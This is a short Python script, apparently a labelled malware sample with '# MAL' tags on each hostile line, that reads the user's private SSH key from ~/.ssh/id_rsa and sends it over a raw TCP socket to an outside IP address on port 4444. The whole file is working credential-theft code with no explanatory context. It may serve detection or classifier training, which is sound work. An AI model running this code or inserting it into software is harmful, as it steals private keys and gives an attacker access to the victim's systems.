import os
import socket

home = os.path.expanduser("~")
with open(os.path.join(home, ".ssh", "id_rsa")) as f:  # MAL
    key = f.read()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # MAL
s.connect(("167.99.1.10", 4444))  # MAL
s.sendall(key.encode())  # MAL
